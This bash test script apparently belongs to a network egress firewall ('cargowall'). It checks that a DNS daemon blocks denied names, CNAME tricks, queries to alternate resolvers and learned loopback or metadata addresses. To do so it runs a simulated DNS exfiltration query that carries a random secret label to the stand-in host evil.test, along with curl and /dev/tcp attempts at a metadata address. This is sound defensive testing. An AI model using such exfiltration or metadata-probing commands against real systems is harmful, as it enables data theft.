#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# Issue 3, "Must show", in the namespace lab (tests/lab/lab.sh). Enforce mode, policy allowing
# allowed.test, cname-ok.test, *.wild.test, ttl3.test and **.fresh.test (evil.test denied):
#  a. dig TXT <secret>.evil.test, dig +tcp, two pipelined TCP queries (allowed then denied) and a
#     two-question message: denied names never reach the upstream's query log; allowed answers
#     are right; the two-question message gets FORMERR.
#  b. dig @<second resolver> evil.test over UDP and TCP: answered by policy through dnsd (or
#     dropped), logged, never seen by the second resolver; allowed.test through it is answered.
#  c. cname-ok.test CNAME evil.test: evil.test's address never becomes reachable.
#  d. ttl3.test (TTL 3): after TTL + CW_TTL_FLOOR_S a new connection fails, while a connection
#     opened before expiry keeps receiving.
#  e. *.wild.test names answering 127.0.0.1 and 169.254.169.254: not learned, and logged.
#  g. LAB_FRESH_N (10,000) fresh names resolved and connected to at once: zero failures.
#  f. (restart without --allow-private-answers) allowed.test resolves but is not reachable.
# One PASS/FAIL line per check; exit 1 if any failed, 77 when not root.
set -euo pipefail
# shellcheck source-path=SCRIPTDIR source=lab.sh
. "$(dirname "$0")/lab.sh"
lab_require_root

[ -x "$CW_BIN" ] || lab_die "no launcher at $CW_BIN (build first, or set CW_BUILD / CW_BIN)"

# The documented floor of learned-address lifetimes (proto/limits.h), not a copy of it.
TTL_FLOOR=$(awk '$1 == "#define" && $2 == "CW_TTL_FLOOR_S" { print $3 }' \
	"$LAB_REPO/proto/limits.h")
[[ "$TTL_FLOOR" =~ ^[0-9]+$ ]] || lab_die "cannot read CW_TTL_FLOOR_S from proto/limits.h"
FRESH_LIMIT_S=${FRESH_LIMIT_S:-90} # bound on test g (resolve + connect LAB_FRESH_N names)

trap lab_teardown EXIT
trap 'exit 130' INT TERM
lab_setup

DAEMON_LOG=$LAB_STATE/daemon.log # stderr of the launcher's daemon and of the trio
AUDIT=$LAB_AUDIT

# ---- helpers ----------------------------------------------------------------------------------

cat >"$LAB/policy.json" <<'JSON'
{
  "defaultAction": "deny",
  "rules": [
    { "type": "hostname", "value": "allowed.test", "ports": [], "action": "allow" },
    { "type": "hostname", "value": "cname-ok.test", "ports": [], "action": "allow" },
    { "type": "hostname", "value": "*.wild.test", "ports": [], "action": "allow" },
    { "type": "hostname", "value": "ttl3.test", "ports": [], "action": "allow" },
    { "type": "hostname", "value": "**.fresh.test", "ports": [], "action": "allow" }
  ],
  "searchDomains": []
}
JSON

cw_start() { # AUDIT-LOG EXTRA-ARGS...
	local audit=$1
	shift
	lab_cw start --config "$LAB/policy.json" --mode enforce --interface "$LAB_IF" \
		--cgroup "$LAB_CG" --dns-upstream "$LAB_UPSTREAM" --audit-log "$audit" \
		--state-dir "$LAB_STATE" --bpffs "$LAB_PINS" "$@"
}

dump_diagnostics() {
	echo "---- cargowall output ($LAB_CWLOG), last 60 lines"
	tail -n 60 "$LAB_CWLOG" 2>/dev/null | sed 's/^/  | /' || true
	echo "---- daemon log ($DAEMON_LOG), last 60 lines not about fresh.test"
	grep -v 'fresh\.test' "$DAEMON_LOG" 2>/dev/null | tail -n 60 | sed 's/^/  | /' || true
	echo "---- audit log ($AUDIT), last 40 lines not about fresh.test"
	grep -v 'fresh\.test\|10\.200\.' "$AUDIT" 2>/dev/null | tail -n 40 | cut -c1-300 |
		sed 's/^/  | /' || true
	echo "---- upstream query log ($LAB_DNSLOG), last 40 lines"
	tail -n 40 "$LAB_DNSLOG" 2>/dev/null | sed 's/^/  | /' || true
	echo "---- second resolver's query log ($LAB_DNSLOG2)"
	sed 's/^/  | /' "$LAB_DNSLOG2" 2>/dev/null || true
}

# dig from the workload, bounded: wdig OUT ARGS... (stdout+stderr to OUT, dig's status returned)
wdig() {
	local out=$1 rc=0
	shift
	lab_workload timeout 15 dig +time=2 +tries=1 "$@" >"$out" 2>&1 || rc=$?
	return "$rc"
}
dig_status() { sed -n 's/.*status: \([A-Z]*\).*/\1/p' "$1" | head -n1; }
dig_addrs() { # A records of the answer section, space-separated
	awk '/^;; ANSWER SECTION:/ { f = 1; next } /^$/ { f = 0 } f && $4 == "A" { printf "%s ", $5 }' \
		"$1" | sed 's/ $//'
}
dig_brief() { # one-line summary of a dig output file
	local st
	st=$(dig_status "$1")
	if [ -n "$st" ]; then
		echo "status $st, A: [$(dig_addrs "$1")]"
	else
		echo "no answer: $(sed -e '/^;/d' -e '/^$/d' "$1" | head -n2 | tr '\n' ' ' | cut -c1-160)"
	fi
}
# A policy denial: NXDOMAIN or REFUSED, and no address.
dig_denied() {
	local st
	st=$(dig_status "$1")
	{ [ "$st" = NXDOMAIN ] || [ "$st" = REFUSED ]; } && [ -z "$(dig_addrs "$1")" ]
}

# The upstream (or LOG from line FROM on) received a query for NAME or a subdomain, any type.
queried() { # LOG NAME [FROM-LINE]
	local re
	re=${2//./\\.}
	tail -n +"${3:-1}" "$1" | grep -Eiq "query\[[A-Za-z0-9]+\] ([^ ]*\.)?$re from "
}
queried_lines() { # LOG NAME [FROM-LINE]
	local re
	re=${2//./\\.}
	tail -n +"${3:-1}" "$1" | grep -Ei "query\[[A-Za-z0-9]+\] ([^ ]*\.)?$re from " | head -n3 |
		tr '\n' ';'
}
lines_of() { wc -l <"$1" 2>/dev/null || echo 0; }

# audit_count FILE FIELD=VALUE...: how many events match (same rules as lab_audit_find).
audit_count() {
	"$LAB_PYTHON" - "$@" <<'PY'
import json, sys
def norm(v):
    return str(v).lower() if isinstance(v, bool) else str(v).lower().rstrip(".")
want = [a.split("=", 1) for a in sys.argv[2:]]
n = 0
try:
    for line in open(sys.argv[1], encoding="utf-8", errors="replace"):
        try:
            o = json.loads(line)
        except ValueError:
            continue
        if isinstance(o, dict) and all(k in o and norm(o[k]) == norm(v) for k, v in want):
            n += 1
except OSError:
    pass
print(n)
PY
}
# Denials that test b can cause: dnsd's dns_blocked for evil.test, or a dropped packet to the
# second resolver.
b_denials() {
	echo $(($(audit_count "$AUDIT" event_type=dns_blocked query=evil.test) + \
		$(audit_count "$AUDIT" event_type=connection_blocked dst_ip="$LAB_RESOLVER2_IP")))
}
wait_more_than() { # N CMD...: CMD prints a number; wait up to 5 s for it to exceed N
	local n=$1 i
	shift
	for ((i = 0; i < 50; i++)); do
		[ "$("$@")" -gt "$n" ] && return 0
		sleep 0.1
	done
	return 1
}

# Raw DNS client: `tcp SERVER NAME...` sends one query per name, length-prefixed, back to back
# in one TCP write, and reads every answer; `multi udp|tcp SERVER NAME...` sends ONE message
# whose question section holds every name. Prints one line per answer.
cat >"$LAB/dnsq.py" <<'PY'
import socket, struct, sys

def qname(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.rstrip(".").split(".")) + b"\0"

def message(qid, names):
    return struct.pack("!HHHHHH", qid, 0x0100, len(names), 0, 0, 0) + \
        b"".join(qname(n) + struct.pack("!HH", 1, 1) for n in names)

def skip_name(m, off):
    while True:
        l = m[off]
        if l == 0:
            return off + 1
        if l & 0xc0 == 0xc0:
            return off + 2
        off += 1 + l

def parse(m):
    qid, flags, qd, an, _, _ = struct.unpack_from("!HHHHHH", m, 0)
    off, addrs = 12, []
    for _ in range(qd):
        off = skip_name(m, off) + 4
    for _ in range(an):
        off = skip_name(m, off)
        t, _, _, rdl = struct.unpack_from("!HHIH", m, off)
        off += 10
        if t == 1 and rdl == 4:
            addrs.append(socket.inet_ntoa(m[off:off + 4]))
        off += rdl
    return qid, flags & 0xf, ",".join(addrs) or "-"

def recv_exact(s, n):
    b = b""
    while len(b) < n:
        c = s.recv(n - len(b))
        if not c:
            raise EOFError("connection closed after %d of %d bytes" % (len(b), n))
        b += c
    return b

def tcp_read_answers(s, want):
    got = {}
    try:
        while len(got) < want:
            ln = struct.unpack("!H", recv_exact(s, 2))[0]
            qid, rcode, a = parse(recv_exact(s, ln))
            got[qid] = (rcode, a)
    except (OSError, EOFError) as e:
        print("note: %s after %d answer(s)" % (str(e) or type(e).__name__, len(got)))
    return got

mode, server = sys.argv[1], sys.argv[2]
if mode == "tcp":
    names = sys.argv[3:]
    got = {}
    try:
        s = socket.create_connection((server, 53), timeout=5)
        s.sendall(b"".join(struct.pack("!H", len(m)) + m
                           for m in (message(i + 1, [n]) for i, n in enumerate(names))))
        got = tcp_read_answers(s, len(names))
    except OSError as e:
        print("note: %s" % (str(e) or type(e).__name__))
    for i, n in enumerate(names):
        if i + 1 in got:
            print("name=%s rcode=%d a=%s" % (n, got[i + 1][0], got[i + 1][1]))
        else:
            print("name=%s noanswer" % n)
elif mode == "multi":
    proto, names = sys.argv[3], sys.argv[4:]
    m = message(4242, names)
    try:
        if proto == "udp":
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(5)
            s.sendto(m, (server, 53))
            r = s.recv(65535)
        else:
            s = socket.create_connection((server, 53), timeout=5)
            s.sendall(struct.pack("!H", len(m)) + m)
            r = recv_exact(s, struct.unpack("!H", recv_exact(s, 2))[0])
        qid, rcode, a = parse(r)
        print("rcode=%d a=%s" % (rcode, a))
    except (OSError, EOFError) as e:
        print("noanswer (%s)" % (str(e) or type(e).__name__))
PY

# Long transfer for test d: resolve NAME, connect to PORT, read until EOF, logging each read.
cat >"$LAB/stream.py" <<'PY'
import socket, sys, time
name, port, logf, limit = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
out = open(logf, "w", buffering=1)
t0 = time.time()
try:
    ip = socket.getaddrinfo(name, port, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
    out.write("resolved %s %.3f\n" % (ip, time.time()))
    s = socket.create_connection((ip, port), timeout=3)
    out.write("connected %.3f\n" % time.time())
except OSError as e:
    out.write("error %.3f 0 %s\n" % (time.time(), e))
    sys.exit(1)
s.settimeout(10)  # the server sends every 0.5 s: 10 s of silence is a stalled connection
n = 0
while time.time() - t0 < limit:
    try:
        b = s.recv(64)
    except socket.timeout:
        out.write("stalled %.3f %d\n" % (time.time(), n))
        break
    except OSError as e:
        out.write("error %.3f %d %s\n" % (time.time(), n, e))
        break
    if not b:
        out.write("eof %.3f %d\n" % (time.time(), n))
        break
    n += len(b)
    out.write("data %.3f %d\n" % (time.time(), n))
PY

# Test g's client: each name resolved (getaddrinfo) then connected to at once (timeout 2 s).
cat >"$LAB/fresh.py" <<'PY'
import json, socket, sys, threading, time
n, port, nthreads, limit = (int(a) for a in sys.argv[1:5])
deadline = time.time() + limit
lock = threading.Lock()
st = {"names": n, "done": 0, "connected": 0, "resolve_fail": 0, "wrong_addr": 0,
      "connect_fail": 0, "examples": []}

def bump(key, example=None):
    with lock:
        st[key] += 1
        if example and len(st["examples"]) < 5:
            st["examples"].append(example)

def worker(k):
    for i in range(k, n, nthreads):
        if time.time() > deadline:
            return
        name = "n%d.fresh.test" % i
        want = "10.200.%d.%d" % (1 + i // 200, 1 + i % 200)
        try:
            ip = socket.getaddrinfo(name, port, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
        except socket.gaierror as e:
            bump("resolve_fail", "%s: %s" % (name, e))
            continue
        finally:
            bump("done")
        if ip != want:
            bump("wrong_addr", "%s: %s, want %s" % (name, ip, want))
            continue
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect((ip, port))
            bump("connected")
        except OSError as e:
            bump("connect_fail", "%s %s: %s" % (name, ip, e))
        finally:
            s.close()

t0 = time.time()
ts = [threading.Thread(target=worker, args=(k,)) for k in range(nthreads)]
for t in ts:
    t.start()
for t in ts:
    t.join()
st["seconds"] = round(time.time() - t0, 1)
print(json.dumps(st))
PY

# wl_tcp_read IP PORT N: from the workload, a new TCP connection and the first N bytes (4 s).
# shellcheck disable=SC2016
wl_tcp_read() {
	lab_workload timeout 4 bash -c 'exec 3<>"/dev/tcp/$1/$2" && head -c "$3" <&3' wl-tcp "$@" \
		2>/dev/null
}
wl_http_ok() { # IP EXPECTED-BODY, from the workload
	[ "$(lab_workload "${LAB_CURL[@]}" --max-time 2 "http://$1/" 2>/dev/null)" = "$2" ]
}

# ---- controls: before start, the workload reaches every server the tests expect it not to ----

echo "== controls (before start; TC on $LAB_IF judges every packet once cargowall runs)"
lab_check "control: the workload reaches http://$LAB_EVIL_IP/ (evil)" wl_http_ok "$LAB_EVIL_IP" evil
lab_check "control: the workload reaches http://$LAB_META_IP/ (metadata)" \
	wl_http_ok "$LAB_META_IP" metadata
lab_check "control: the workload reaches http://$LAB_ALLOWED_IP/ (allowed)" \
	wl_http_ok "$LAB_ALLOWED_IP" allowed
lab_check "control: the workload reaches the stream on $LAB_TTL3_IP:$LAB_TTL3_PORT" \
	test "$(wl_tcp_read "$LAB_TTL3_IP" "$LAB_TTL3_PORT" 1)" = .
lab_check "control: the workload reaches $(lab_fresh_ip 0):$LAB_FRESH_PORT" \
	test "$(wl_tcp_read "$(lab_fresh_ip 0)" "$LAB_FRESH_PORT" 5)" = fresh

# ---- start ------------------------------------------------------------------------------------

echo "== start: enforce mode, policy $(tr -d ' \n' <"$LAB/policy.json" | cut -c1-400)"
if cw_start "$AUDIT" --allow-private-answers; then
	lab_pass "start: cargowall start returned 0"
else
	lab_fail "start: cargowall start failed (status $?); nothing else can be checked"
	dump_diagnostics
	lab_results || exit 1
fi

# ---- a. denied names never reach the upstream -------------------------------------------------

echo "== a. denied names never reach the upstream ($LAB_DNSLOG)"
SECRET=$(head -c 20 /dev/urandom | base32 | tr -d '=' | tr '[:upper:]' '[:lower:]')
rc=0
wdig "$LAB/a1.out" TXT "$SECRET.evil.test" || rc=$?
if dig_denied "$LAB/a1.out"; then
	lab_pass "a: dig TXT $SECRET.evil.test: denied by dnsd ($(dig_brief "$LAB/a1.out"))"
else
	lab_fail "a: dig TXT $SECRET.evil.test: exit $rc, $(dig_brief "$LAB/a1.out") (want NXDOMAIN/REFUSED)"
fi
if grep -qi "$SECRET" "$LAB_DNSLOG"; then
	lab_fail "a: the upstream saw the secret: $(grep -i "$SECRET" "$LAB_DNSLOG" | head -n2)"
else
	lab_pass "a: the upstream's log never shows the secret label"
fi

rc=0
wdig "$LAB/a2.out" +tcp evil.test || rc=$?
if dig_denied "$LAB/a2.out"; then
	lab_pass "a: dig +tcp evil.test: denied by dnsd over TCP ($(dig_brief "$LAB/a2.out"))"
else
	lab_fail "a: dig +tcp evil.test: exit $rc, $(dig_brief "$LAB/a2.out") (want NXDOMAIN/REFUSED)"
fi
rc=0
wdig "$LAB/a3.out" +tcp allowed.test || rc=$?
if [ "$(dig_status "$LAB/a3.out")" = NOERROR ] && [ "$(dig_addrs "$LAB/a3.out")" = "$LAB_ALLOWED_IP" ]; then
	lab_pass "a: dig +tcp allowed.test: $(dig_brief "$LAB/a3.out")"
else
	lab_fail "a: dig +tcp allowed.test: exit $rc, $(dig_brief "$LAB/a3.out") (want NOERROR, $LAB_ALLOWED_IP)"
fi

out=$(lab_workload timeout 15 "$LAB_PYTHON" "$LAB/dnsq.py" tcp 127.0.0.1 allowed.test evil.test \
	2>&1 || true)
echo "   pipelined (one TCP connection, two length-prefixed queries in one write): $(tr '\n' ';' <<<"$out")"
if grep -qx "name=allowed.test rcode=0 a=$LAB_ALLOWED_IP" <<<"$out"; then
	lab_pass "a: pipelined TCP: allowed.test answered $LAB_ALLOWED_IP"
else
	lab_fail "a: pipelined TCP: allowed.test not answered $LAB_ALLOWED_IP: $(grep '^name=allowed' <<<"$out")"
fi
if grep -Eqx 'name=evil.test rcode=(3|5) a=-' <<<"$out"; then
	lab_pass "a: pipelined TCP: evil.test (second message) denied: $(grep '^name=evil' <<<"$out")"
else
	lab_fail "a: pipelined TCP: evil.test (second message): $(grep '^name=evil' <<<"$out") (want rcode 3 or 5, no address)"
fi

for proto in udp tcp; do
	out=$(lab_workload timeout 15 "$LAB_PYTHON" "$LAB/dnsq.py" multi 127.0.0.1 "$proto" \
		allowed.test evil.test 2>&1 || true)
	if grep -Eqx 'rcode=1 a=-' <<<"$out"; then
		lab_pass "a: two-question message ($proto): FORMERR"
	else
		lab_fail "a: two-question message ($proto): $(tr '\n' ' ' <<<"$out") (want rcode=1 FORMERR, no address)"
	fi
done

if queried "$LAB_DNSLOG" evil.test; then
	lab_fail "a: the upstream was asked for evil.test: $(queried_lines "$LAB_DNSLOG" evil.test)"
else
	lab_pass "a: the upstream's query log has no query for evil.test or below"
fi

# ---- b. another resolver: forced through dnsd -------------------------------------------------

echo "== b. queries to the second resolver $LAB_RESOLVER2_IP (own log $LAB_DNSLOG2)"
from2=$(($(lines_of "$LAB_DNSLOG2") + 1))
for proto in udp tcp; do
	flag=+notcp
	[ "$proto" = tcp ] && flag=+tcp
	before=$(b_denials)
	rc=0
	wdig "$LAB/b-$proto.out" "$flag" @"$LAB_RESOLVER2_IP" evil.test || rc=$?
	st=$(dig_status "$LAB/b-$proto.out")
	if dig_denied "$LAB/b-$proto.out"; then
		lab_pass "b: dig $flag @$LAB_RESOLVER2_IP evil.test: answered by policy ($(dig_brief "$LAB/b-$proto.out"))"
	elif [ -z "$st" ] && [ "$rc" -ne 0 ]; then
		lab_pass "b: dig $flag @$LAB_RESOLVER2_IP evil.test: dropped (exit $rc, $(dig_brief "$LAB/b-$proto.out"))"
	else
		lab_fail "b: dig $flag @$LAB_RESOLVER2_IP evil.test: exit $rc, $(dig_brief "$LAB/b-$proto.out")"
	fi
	if wait_more_than "$before" b_denials; then
		lab_pass "b: ($proto) logged: dns_blocked evil.test or connection_blocked $LAB_RESOLVER2_IP"
	else
		lab_fail "b: ($proto) no new dns_blocked (query evil.test) nor connection_blocked (dst_ip $LAB_RESOLVER2_IP) in the audit log"
	fi
done
if tail -n +"$from2" "$LAB_DNSLOG2" | grep -qi 'evil\.test'; then
	lab_fail "b: $LAB_RESOLVER2_IP saw evil.test: $(tail -n +"$from2" "$LAB_DNSLOG2" | grep -i 'evil\.test' | head -n2 | tr '\n' ';')"
else
	lab_pass "b: $LAB_RESOLVER2_IP's log never shows evil.test"
fi
if queried "$LAB_DNSLOG" evil.test; then
	lab_fail "b: the upstream was asked for evil.test: $(queried_lines "$LAB_DNSLOG" evil.test)"
fi

for proto in udp tcp; do
	flag=+notcp
	[ "$proto" = tcp ] && flag=+tcp
	from2=$(($(lines_of "$LAB_DNSLOG2") + 1))
	rc=0
	wdig "$LAB/b-ok-$proto.out" "$flag" @"$LAB_RESOLVER2_IP" allowed.test || rc=$?
	if [ "$(dig_status "$LAB/b-ok-$proto.out")" = NOERROR ] &&
		[ "$(dig_addrs "$LAB/b-ok-$proto.out")" = "$LAB_ALLOWED_IP" ]; then
		lab_pass "b: dig $flag @$LAB_RESOLVER2_IP allowed.test: $(dig_brief "$LAB/b-ok-$proto.out")"
	else
		lab_fail "b: dig $flag @$LAB_RESOLVER2_IP allowed.test: exit $rc, $(dig_brief "$LAB/b-ok-$proto.out") (want NOERROR, $LAB_ALLOWED_IP)"
	fi
	if queried "$LAB_DNSLOG2" allowed.test "$from2"; then
		lab_fail "b: ($proto) allowed.test went to $LAB_RESOLVER2_IP itself, not through dnsd: $(queried_lines "$LAB_DNSLOG2" allowed.test "$from2")"
	else
		lab_pass "b: ($proto) allowed.test did not reach $LAB_RESOLVER2_IP (answered through dnsd)"
	fi
done

# ---- c. a CNAME to a denied name --------------------------------------------------------------

echo "== c. cname-ok.test CNAME evil.test ($LAB_EVIL_IP)"
rc=0
body=$(lab_workload "${LAB_CURL[@]}" http://cname-ok.test/ 2>"$LAB/c1.err") || rc=$?
if [ "$rc" -ne 0 ] && [ "$body" != evil ]; then
	lab_pass "c: curl http://cname-ok.test/ fails (exit $rc: $(head -c 200 "$LAB/c1.err"))"
else
	lab_fail "c: curl http://cname-ok.test/: exit $rc, body '${body:0:80}' (evil.test's server reached)"
fi
rc=0
body=$(lab_workload "${LAB_CURL[@]}" "http://$LAB_EVIL_IP/" 2>"$LAB/c2.err") || rc=$?
if [ "$rc" -ne 0 ] && [ "$body" != evil ]; then
	lab_pass "c: then curl http://$LAB_EVIL_IP/ fails (exit $rc: $(head -c 200 "$LAB/c2.err"))"
else
	lab_fail "c: then curl http://$LAB_EVIL_IP/: exit $rc, body '${body:0:80}' (learned through the CNAME)"
fi
wdig "$LAB/c3.out" cname-ok.test || true
echo "   (dnsd's answer for cname-ok.test: $(dig_brief "$LAB/c3.out"))"

# ---- e. loopback and link-local answers -------------------------------------------------------

echo "== e. *.wild.test answering 127.0.0.1 (loop) and $LAB_META_IP (meta)"
for name in loop meta; do
	wdig "$LAB/e-$name.out" "$name.wild.test" || true
	echo "   dnsd's answer for $name.wild.test: $(dig_brief "$LAB/e-$name.out")"
done
rc=0
body=$(lab_workload "${LAB_CURL[@]}" http://meta.wild.test/ 2>"$LAB/e1.err") || rc=$?
if [ "$rc" -ne 0 ] && [ "$body" != metadata ]; then
	lab_pass "e: curl http://meta.wild.test/ fails (exit $rc: $(head -c 200 "$LAB/e1.err"))"
else
	lab_fail "e: curl http://meta.wild.test/: exit $rc, body '${body:0:80}' ($LAB_META_IP learned)"
fi
rc=0
body=$(lab_workload "${LAB_CURL[@]}" "http://$LAB_META_IP/" 2>"$LAB/e2.err") || rc=$?
if [ "$rc" -ne 0 ] && [ "$body" != metadata ]; then
	lab_pass "e: curl http://$LAB_META_IP/ fails (exit $rc: $(head -c 200 "$LAB/e2.err"))"
else
	lab_fail "e: curl http://$LAB_META_IP/: exit $rc, body '${body:0:80}' ($LAB_META_IP learned)"
fi
# The refusal is logged: dnsd's stderr (daemon.log) or the audit log, naming the address.
refusal_logged() { # ADDRESS
	local re
	re=${1//./\\.}
	grep -Ei "$re" "$DAEMON_LOG" 2>/dev/null | grep -Eiq 'not learn|refus' ||
		grep -Ei "$re" "$AUDIT" 2>/dev/null | grep -Eiq 'not.learn|refus'
}
for addr in 127.0.0.1 "$LAB_META_IP"; do
	if lab_retry 30 0.1 refusal_logged "$addr"; then
		lab_pass "e: refusal to learn $addr logged: $( (grep -F "$addr" "$DAEMON_LOG" | grep -Ei 'not learn|refus'; grep -F "$addr" "$AUDIT" | grep -Ei 'not.learn|refus') 2>/dev/null | head -n1 | cut -c1-200)"
	else
		lab_fail "e: no log line saying $addr was not learned (daemon.log: $(grep -F "$addr" "$DAEMON_LOG" 2>/dev/null | head -n1 | cut -c1-200))"
	fi
done

# ---- d. TTL expiry with a live connection -----------------------------------------------------

wait_s=$((3 + TTL_FLOOR + 2)) # TTL 3 + the floor, + the 1 s sweep and a second of margin
echo "== d. ttl3.test (TTL 3, floor $TTL_FLOOR s): new connection after $wait_s s, old one keeps going"
lab_workload_pid "$LAB/stream.pid" "$LAB_PYTHON" "$LAB/stream.py" ttl3.test "$LAB_TTL3_PORT" \
	"$LAB/stream.log" 60 </dev/null >"$LAB/stream.out" 2>&1 &
STREAM_WRAPPER=$!
LAB_PIDS+=("$STREAM_WRAPPER")
lab_retry 50 0.1 grep -q '^connected\|^error' "$LAB/stream.log" || true
t_res=$(awk '$1 == "resolved" { print $3 }' "$LAB/stream.log" 2>/dev/null)
new_conn() { wl_tcp_read "$LAB_TTL3_IP" "$LAB_TTL3_PORT" 1; }
if grep -q '^connected' "$LAB/stream.log" && [ "$(awk '$1 == "resolved" { print $2 }' "$LAB/stream.log")" = "$LAB_TTL3_IP" ]; then
	lab_pass "d: the long transfer resolved ttl3.test to $LAB_TTL3_IP and connected"
	if [ "$(new_conn || true)" = . ]; then
		lab_pass "d: (control) a new connection to $LAB_TTL3_IP before expiry works"
	else
		lab_fail "d: (control) a new connection to $LAB_TTL3_IP before expiry fails"
	fi
	now=$(date +%s.%N)
	sleep "$(awk -v r="$t_res" -v n="$now" -v w="$wait_s" 'BEGIN { d = r + w - n; print (d > 0 ? d : 0) }')"
	t_new=$(date +%s.%N)
	rc=0
	got=$(new_conn) || rc=$?
	after=$(awk -v r="$t_res" -v t="$t_new" 'BEGIN { printf "%.1f", t - r }')
	if [ "$got" != . ]; then
		lab_pass "d: a new connection $after s after resolution fails (exit $rc)"
	else
		lab_fail "d: a new connection $after s after resolution still works (learned address not expired)"
	fi
	# The transfer: 90 bytes over 45 s. Wait for its end (bounded by stream.py's 60 s limit).
	for ((i = 0; i < 300; i++)); do
		grep -q '^eof\|^stalled\|^error' "$LAB/stream.log" && break
		lab_pid_alive "$(cat "$LAB/stream.pid" 2>/dev/null)" || break
		sleep 0.1
	done
	last=$(tail -n1 "$LAB/stream.log")
	total=$(awk '$1 == "data" { n = $3 } END { print n + 0 }' "$LAB/stream.log")
	later=$(awk -v t="$t_new" '$1 == "data" && $2 > t + 1 { c++ } END { print c + 0 }' "$LAB/stream.log")
	if [ "$total" -ge 90 ] && [ "$later" -ge 10 ] && [[ "$last" == eof* ]]; then
		lab_pass "d: the connection opened before expiry kept receiving: $total bytes, $later reads after the refused new connection, clean EOF"
	else
		lab_fail "d: the connection opened before expiry: $total bytes of 90, $later reads after the new connection was refused, last: '$last'"
	fi
else
	lab_fail "d: the long transfer did not start: $(head -n3 "$LAB/stream.log" 2>/dev/null | tr '\n' ';') $(head -c 200 "$LAB/stream.out")"
fi
wait "$STREAM_WRAPPER" 2>/dev/null || true

# ---- g. fresh names, connected to at once -----------------------------------------------------

echo "== g. $LAB_FRESH_N fresh names (n<i>.fresh.test), getaddrinfo then connect at once (limit ${FRESH_LIMIT_S} s)"
out=$(lab_workload timeout $((FRESH_LIMIT_S + 30)) "$LAB_PYTHON" "$LAB/fresh.py" "$LAB_FRESH_N" \
	"$LAB_FRESH_PORT" 4 "$FRESH_LIMIT_S" 2>&1 | tail -n1 || true)
echo "   $out"
if "$LAB_PYTHON" -c '
import json, sys
s = json.loads(sys.argv[1])
ok = s["done"] == s["names"] and s["connected"] == s["names"]
sys.exit(0 if ok else 1)' "$out" 2>/dev/null; then
	lab_pass "g: $LAB_FRESH_N fresh names resolved and connected at once: zero failures"
else
	lab_fail "g: fresh names: $out (want every name resolved to its address and connected)"
fi

if out=$(lab_audit_validate "$AUDIT"); then
	lab_pass "audit log: every line is a JSON object ($(lines_of "$AUDIT") lines)"
else
	lab_fail "audit log: $out"
fi

# ---- f. private answers without --allow-private-answers ---------------------------------------

echo "== f. restart without --allow-private-answers"
[ "$LAB_NFAIL" -eq 0 ] || dump_diagnostics
if lab_cw stop --state-dir "$LAB_STATE"; then
	lab_pass "f: cargowall stop returned 0"
else
	lab_fail "f: cargowall stop failed (status $?)"
fi
AUDIT=$LAB/audit-private.log
from_d=$(($(lines_of "$DAEMON_LOG") + 1))
if cw_start "$AUDIT"; then
	lab_pass "f: cargowall start (no --allow-private-answers) returned 0"
	rc=0
	wdig "$LAB/f1.out" allowed.test || rc=$?
	if [ "$(dig_addrs "$LAB/f1.out")" = "$LAB_ALLOWED_IP" ]; then
		lab_pass "f: allowed.test resolves ($(dig_brief "$LAB/f1.out"))"
	else
		lab_fail "f: allowed.test: exit $rc, $(dig_brief "$LAB/f1.out") (want $LAB_ALLOWED_IP)"
	fi
	rc=0
	body=$(lab_workload "${LAB_CURL[@]}" http://allowed.test/ 2>"$LAB/f2.err") || rc=$?
	if [ "$rc" -ne 0 ] && [ "$body" != allowed ]; then
		lab_pass "f: curl http://allowed.test/ fails: private answer not learned (exit $rc: $(head -c 200 "$LAB/f2.err"))"
	else
		lab_fail "f: curl http://allowed.test/: exit $rc, body '${body:0:80}' (private answer learned)"
	fi
	if tail -n +"$from_d" "$DAEMON_LOG" 2>/dev/null | grep -F "$LAB_ALLOWED_IP" |
		grep -Eqi 'private|not learn|refus'; then
		lab_pass "f: refusal logged: $(tail -n +"$from_d" "$DAEMON_LOG" | grep -F "$LAB_ALLOWED_IP" | head -n1 | cut -c1-200)"
	else
		lab_fail "f: no log line in daemon.log saying $LAB_ALLOWED_IP was not learned"
	fi
else
	lab_fail "f: cargowall start without --allow-private-answers failed"
fi

[ "$LAB_NFAIL" -eq 0 ] || dump_diagnostics
lab_results
